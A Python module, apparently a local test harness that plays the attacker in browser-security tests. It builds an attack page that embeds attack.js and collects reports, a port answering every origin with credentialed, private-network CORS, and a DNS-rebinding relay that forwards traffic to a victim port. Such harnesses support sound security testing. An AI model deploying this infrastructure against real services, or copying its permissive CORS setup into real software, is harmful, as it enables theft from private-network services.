"""The attacker's side: a site with the pages, a port that lets everybody in (the control), and a name that changes its address."""
import base64
import hashlib
import http.server
import json
import os
import socket
import threading

HERE = os.path.dirname(os.path.abspath(__file__))
MAGIC = b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11"


def page(to, origin, targets):
    with open(HERE + "/attack.js") as f:
        script = f.read()
    return "<!doctype html><meta charset=utf-8><body><script>%s\nreport(%s, %s, %s)</script>" % (script, json.dumps(to), json.dumps(origin), json.dumps(targets))


class Server(http.server.ThreadingHTTPServer):
    daemon_threads = True
    request_queue_size = 64

    def __init__(self, handler, host="127.0.0.1", port=0):
        super().__init__((host, port), handler)
        self.port = self.server_address[1]
        threading.Thread(target=self.serve_forever, daemon=True).start()

    def handle_error(self, *_):
        pass


def answer(handler, status, body="", kind="text/html", **headers):
    handler.send_response(status)
    for name, value in {"Content-Type": kind, "Content-Length": str(len(body.encode())), **headers}.items():
        handler.send_header(name.replace("_", "-"), value)
    handler.end_headers()
    handler.wfile.write(body.encode())


class Quiet(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *_):
        pass

    def body(self):
        return self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode(errors="replace")


def site(pages):
    """Serves pages (path -> text, once they are known) and takes reports."""
    reports, came = [], threading.Condition()

    class Site(Quiet):
        def do_GET(self):
            text = pages.get(self.path.split("?")[0])
            # A cookie of this host is sent to every port of it.
            answer(self, 200 if text else 404, text or "", Set_Cookie="token=stolen; path=/")

        def do_POST(self):
            with came:
                reports.append(json.loads(self.body()))
                came.notify_all()
            answer(self, 200)
    server = Server(Site)
    server.reports, server.came = reports, came
    return server


def open_port():
    """The control: whoever comes is let in, and noted by the name of its try."""
    arrived = set()

    class Open(Quiet):
        def note(self):
            if "?a=" in self.path:
                arrived.add(self.path.split("?a=")[1])

        def allowed(self):
            return {"Access_Control_Allow_Origin": self.headers.get("Origin") or "*", "Access_Control_Allow_Credentials": "true",
                    "Access_Control_Allow_Headers": "content-type, x-other, authorization", "Access_Control_Allow_Private_Network": "true"}

        def do_OPTIONS(self):
            answer(self, 204, **self.allowed())

        def do_POST(self):
            self.body()
            self.note()
            answer(self, 200, "in", **self.allowed())

        def do_GET(self):
            self.note()
            if (self.headers.get("Upgrade") or "").lower() != "websocket":
                return answer(self, 200, "in", **self.allowed())
            key = base64.b64encode(hashlib.sha1(self.headers["Sec-WebSocket-Key"].encode() + MAGIC).digest()).decode()
            self.send_response(101)
            for name, value in (("Upgrade", "websocket"), ("Connection", "Upgrade"), ("Sec-WebSocket-Accept", key)):
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(b"\x81\x02in")
            self.close_connection = True
    server = Server(Open)
    server.arrived = arrived
    return server


class Rebound:
    """A name that first is the attacker's address and then the victim's: page from here, everything else, byte for byte, to the port itself."""

    def __init__(self, port, text):
        self.port, self.text = port, text
        self.listener = socket.create_server(("127.0.0.2", port), backlog=64)
        threading.Thread(target=self.accept, daemon=True).start()

    def accept(self):
        while True:
            try:
                client = self.listener.accept()[0]
            except OSError:
                return
            threading.Thread(target=self.serve, args=(client,), daemon=True).start()

    def serve(self, client):
        head = b""
        with client:
            # A page is asked for in the clear, also where the port itself speaks TLS.
            while b"\r\n" not in head and not head.startswith(b"\x16"):
                piece = client.recv(65536)
                if not piece:
                    return
                head += piece
            if head.startswith(b"GET /page"):
                body = self.text.encode()
                return client.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
            try:
                with socket.create_connection(("127.0.0.1", self.port), 20) as victim:
                    victim.sendall(head)
                    back = threading.Thread(target=pump, args=(victim, client), daemon=True)
                    back.start()
                    pump(client, victim)
                    back.join(30)
            except OSError:
                pass

    def close(self):
        self.listener.close()


def pump(source, sink):
    try:
        while piece := source.recv(65536):
            sink.sendall(piece)
        sink.shutdown(socket.SHUT_WR)
    except OSError:
        pass
